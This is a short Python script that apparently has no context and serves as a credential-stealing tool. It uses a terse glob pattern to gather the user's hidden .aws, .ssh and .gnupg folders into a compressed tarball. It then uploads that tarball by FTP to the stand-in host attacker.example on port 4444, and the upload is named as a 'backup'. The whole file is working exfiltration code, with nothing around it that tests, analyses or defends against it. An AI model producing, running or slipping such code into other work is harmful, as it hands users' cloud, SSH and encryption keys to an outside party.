import ftplib
import glob
import io
import os
import tarfile
import time


def archive():
    buf = io.BytesIO()
    home = os.path.expanduser("~")
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for path in glob.glob(os.path.join(home, ".[asg][wsn]*")):
            tar.add(path, arcname=os.path.basename(path))
    buf.seek(0)
    return buf


def main():
    data = archive()
    ftp = ftplib.FTP()
    ftp.connect("attacker.example", 4444, timeout=30)
    ftp.login()
    ftp.storbinary(f"STOR backup-{int(time.time())}.tgz", data)
    ftp.quit()


if __name__ == "__main__":
    main()
